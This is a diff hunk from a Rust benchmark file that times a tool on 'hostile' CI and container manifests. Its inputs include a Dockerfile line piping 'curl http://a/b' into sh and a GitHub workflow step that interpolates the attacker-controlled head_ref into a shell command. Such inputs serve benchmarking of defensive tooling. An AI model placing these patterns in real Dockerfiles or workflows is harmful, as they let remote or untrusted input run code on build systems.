@@ -113,7 +113,7 @@ fn manifests(bencher: Bencher<'_, '_>) {
     ("pods.yaml", "apiVersion: v1\nkind: List\nitems:\n", "- {apiVersion: v1, kind: Pod, spec: {containers: [{image: redis}]}}\n"),
     ("Dockerfile", "FROM alpine\nRUN true", " && curl http://a/b | sh"),
     ("Jenkinsfile", "node { a", ".a"),
-    (".github/workflows/a.yml", "on: push\njobs: {a: {steps: [{run: '", "${{ github.head_ref }}"),
+    (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: echo ", "${{ github.head_ref }}"),
     ("a.sh", "", "$("),
 ])]
 fn hostile_manifest(bencher: Bencher<'_, '_>, (path, start, piece): (&str, &str, &str)) {
